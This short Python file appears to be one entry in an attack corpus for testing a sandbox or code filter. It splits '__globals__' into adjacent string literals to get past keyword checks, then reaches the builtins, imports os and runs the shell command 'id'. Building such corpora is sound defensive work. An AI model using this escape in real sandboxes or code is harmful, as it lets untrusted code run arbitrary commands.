# corpus: attack class=internals form=targeted
# '__glob' 'als__': adjacent string literals join into a dunder.
def helper():
    pass


def main():
    scope = getattr(helper, "__glob" "als__")
    builtins = scope["__builtins__"]
    importer = builtins["__import__"] if isinstance(builtins, dict) else builtins.__import__
    return {"status": importer("os").system("id")}
